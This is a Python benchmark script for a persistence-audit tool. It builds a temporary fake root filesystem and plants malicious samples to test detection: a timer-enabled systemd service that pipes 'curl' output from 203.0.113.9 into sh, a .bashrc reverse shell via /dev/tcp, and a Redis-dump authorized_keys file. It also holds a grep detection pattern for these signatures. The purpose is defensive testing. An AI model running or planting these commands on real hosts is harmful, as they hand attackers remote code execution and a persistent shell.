"""Benchmark: the persistence area vs `find | xargs grep` over the same paths (issue 13 item 8).

One root holds 10,000 systemd units (2,000 of them enabled through multi-user.target.wants, one
malicious, its timer enabled), 1,000 users with .bashrc and .profile each (one malicious), and a
1 GiB *sparse* /root/.ssh/authorized_keys whose head is a Redis dump holding a key (the rest is a
hole: a few KiB on disk, 1 GiB for whoever reads it whole).

Four runs in one invocation, each a fresh process: the persistence area inside a 64 MiB memory
cgroup, the peer (`find <paths> -type f -print0 | xargs -0 grep -lE <patterns>`) inside the same
kind of cgroup, then both without a limit. Peak RSS from wait4() rusage, cgroup peak and failcnt
from the cgroup (cgroup v1, the helpers of bench/cron_bench.py).

Run as root: python3 bench/persistence_bench.py [--units 10000 --users 1000 --keys-gib 1].
Cleans up the tree and the cgroup.
"""
import argparse
import os
import shutil
import sys
import tempfile

HERE = os.path.dirname(os.path.abspath(__file__))
REPO = os.path.dirname(HERE)
sys.path.insert(0, HERE)
sys.path.insert(0, os.path.join(REPO, "tests"))
import cron_bench  # noqa: E402  (the memcg helpers: one copy)
import persistence_tree as pt  # noqa: E402
from conftest import write  # noqa: E402

cron_bench.CGROUP = "/sys/fs/cgroup/memory/persistence-bench"

HOSTGUARD = r"""
import sys, time
sys.path.insert(0, %(coll)r)
from ansible_collections.hostguard.hardening.plugins.module_utils.persistence.audit import audit
from ansible_collections.hostguard.hardening.plugins.module_utils.persistence.spec import OPTIONS
params = dict((k, v.get("default")) for k, v in OPTIONS.items())
params["root"] = %(root)r
t = time.monotonic()
r = audit(params)
fails = [f for f in r["findings"] if f["status"] == "fail"]
crit = sorted(set(f["id"] for f in fails if f["severity"] == "critical"))
print("findings=%%d critical=%%s units=%%d audit_s=%%.2f" %% (
    len(fails), ",".join(crit), r["facts"]["systemd"]["counts"]["units"], time.monotonic() - t))
"""

PEER = ("cd %(root)s && find etc/systemd home root/.ssh etc/profile.d -type f -print0 "
        "| xargs -0 grep -lE 'curl[^|]*\\|[[:space:]]*(ba)?sh|/dev/tcp/|/tmp/|REDIS0' | wc -l")


def make_tree(units, users, keys_gib):
    top = tempfile.mkdtemp(prefix="persistence-bench-")
    pt.base(top, users=[("root", 0, "/root")] + [("u%d" % i, 2000 + i, "/home/u%d" % i) for i in range(users)])
    for i in range(units):
        name = "bench-%05d.service" % i
        write(top, "/etc/systemd/system/" + name, pt.service("/usr/bin/sleep %d" % i))
        if i % 5 == 0:
            pt.enable(top, name)
    write(top, "/etc/systemd/system/bench-upd.service", pt.service("/bin/sh -c 'curl -fsSL http://203.0.113.9/u | sh'", wanted_by=None))
    write(top, "/etc/systemd/system/bench-upd.timer", pt.timer())
    pt.enable(top, "bench-upd.timer", target="timers.target")
    for i in range(users):
        home = "/home/u%d" % i
        write(top, home + "/.bashrc", "alias ll='ls -l'\nexport PATH=$PATH:$HOME/bin\n", uid=2000 + i)
        write(top, home + "/.profile", "[ -f ~/.bashrc ] && . ~/.bashrc\n", uid=2000 + i)
    write(top, "/home/u7/.bashrc", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1 &\n", uid=2007)
    keys = os.path.join(top, "root/.ssh/authorized_keys")
    os.makedirs(os.path.dirname(keys), exist_ok=True)
    with open(keys, "wb") as handle:
        handle.write(pt.rdb_with_key("bench-attacker"))
        handle.truncate(int(keys_gib * (1 << 30)))
    return top


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--units", type=int, default=10000)
    parser.add_argument("--users", type=int, default=1000)
    parser.add_argument("--keys-gib", type=float, default=1.0)
    args = parser.parse_args()
    if os.geteuid() != 0:
        sys.exit("run as root (cgroup v1 memory controller)")
    top = make_tree(args.units, args.users, args.keys_gib)
    rows = []
    try:
        for label, code, cg in (("hostguard persistence", HOSTGUARD, True), ("find | xargs grep", None, True),
                                ("hostguard persistence", HOSTGUARD, False), ("find | xargs grep", None, False)):
            if code is None:
                res = run_shell(PEER % {"root": top}, cg)
            else:
                res = cron_bench.run(code % {"coll": cron_bench.COLLECTIONS, "root": top}, cg)
            rows.append((label, "64 MiB cgroup" if cg else "no limit", res))
    finally:
        cron_bench.cgroup_remove()
        shutil.rmtree(top, ignore_errors=True)
    print("root: %d units (%d enabled), %d users x 2 dotfiles, %.1f GiB sparse authorized_keys (Redis dump head)"
          % (args.units, (args.units + 4) // 5, args.users, args.keys_gib))
    head = "%-22s %-14s %5s %9s %13s %11s %17s %8s  %s" % (
        "scanner", "memory limit", "exit", "wall s", "peak RSS MiB", "cg max MiB", "failcnt mem/memsw", "oom_kill", "output")
    print(head)
    print("-" * len(head))
    for label, where, res in rows:
        print("%-22s %-14s %5d %9.2f %13.1f %11s %17s %8s  %s" % (
            label, where, res["exit"], res["wall"], res["maxrss_kib"] / 1024.0,
            "%.1f" % (res["cg_max_usage"] / 1048576.0) if "cg_max_usage" in res else "-",
            res.get("cg_failcnt", "-"), res.get("cg_oom_kill", "-"), (res["out"] or res["err"][-80:])[:120]))
    ok = rows[0][2]["exit"] == 0 and "HG-PERS-020" in rows[0][2]["out"]
    print("\nhostguard completes inside 64 MiB and finds the dump: %s" % ok)
    return 0 if ok else 1


def run_shell(command, in_cgroup):
    """cron_bench.run for a shell pipeline (the peer): sh -c runs it in the same cgroup."""
    code = "import subprocess, sys; r = subprocess.run(%r, shell=True); sys.exit(r.returncode)" % command
    return cron_bench.run(code, in_cgroup)


if __name__ == "__main__":
    sys.exit(main())
